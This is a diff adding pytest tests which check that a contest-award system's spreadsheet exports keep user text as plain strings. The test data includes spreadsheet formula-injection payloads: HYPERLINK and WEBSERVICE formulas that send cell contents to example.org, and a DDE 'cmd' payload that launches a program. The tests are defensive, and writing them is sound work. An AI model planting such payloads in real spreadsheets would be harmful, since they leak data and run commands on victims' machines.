@@ -128,3 +128,51 @@ def test_closing_report(db, upstream, approved):
     assert "BÁO CÁO TỔNG KẾT" in text and HUONG in text and "Phân bố điểm" in text
     with pytest.raises(Forbidden):
         workflow.report(db, upstream, upstream, upstream, EXPERT, CONTEST, "pdf")
+
+
+# ---- formula injection: user text comes out as text ----------------------------------------------
+EVIL_NAME = '=HYPERLINK("https://example.org/x?d="&A1,"Nguyễn Văn A")'
+EVIL_UNIT = '=WEBSERVICE("https://example.org/"&B6)'
+EVIL_TITLE = "=1+cmd|' /C calc'!A0"
+
+
+def text_cells(data):
+    """{value: data_type} of every string cell of every sheet, after asserting none is a formula."""
+    book = load_workbook(io.BytesIO(data))
+    cells = {}
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    cells[cell.value] = cell.data_type
+    return cells
+
+
+def test_user_text_is_never_a_formula_in_any_spreadsheet(db, upstream):
+    upstream.unit_list = [dict(u, name=EVIL_UNIT) if u["code"] == "STP" else u for u in upstream.unit_list]
+    upstream.rankings[1] = [ranking_row(1, "evil", EVIL_NAME, "STP", 20, "2023-06-01T10:00:00+00:00")] + ROWS[1:]
+    upstream.clips = {"complete": True, "clips": [clip("v1", "STP", 91.5, "2023-07-01T00:00:00+00:00", title=EVIL_TITLE),
+                                                  clip("v2", "SNV", 80.0, "2023-07-01T00:01:00+00:00")]}
+    upstream.stats = [unit_stat("SNV", 10, 5, 0.8), unit_stat("STP", 10, 5, 0.9)]
+    weekly = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "weekly", 1)
+    video = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "video")
+    collective = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "collective")
+    exports = {kind: decode(workflow.decision_document(db, upstream, ORG, s["award_set_id"], "xlsx"))
+               for kind, s in (("weekly", weekly), ("video", video), ("collective", collective))}
+    exports["report"] = decode(workflow.report(db, upstream, upstream, upstream, ORG, CONTEST, "xlsx"))
+    expected = {"weekly": [EVIL_NAME, EVIL_UNIT], "video": [EVIL_TITLE, EVIL_UNIT],
+                "collective": [EVIL_UNIT], "report": [EVIL_NAME, EVIL_UNIT, EVIL_TITLE]}
+    for kind, data in exports.items():
+        cells = text_cells(data)
+        for value in expected[kind]:
+            found = [v for v in cells if value in v]
+            assert found, (kind, value)
+            assert all(cells[v] == "s" for v in found), (kind, value)
+
+
+def test_control_characters_in_user_text_do_not_break_a_spreadsheet(db, upstream):
+    upstream.rankings[1] = [ranking_row(1, "ctl", "Lê Văn\x01 Tư\x1b", "SNV", 20, "2023-06-01T10:00:00+00:00")]
+    weekly = workflow.compute_set(db, upstream, upstream, upstream, ORG, CONTEST, "weekly", 1)
+    cells = text_cells(decode(workflow.decision_document(db, upstream, ORG, weekly["award_set_id"], "xlsx")))
+    assert "Lê Văn Tư" in cells
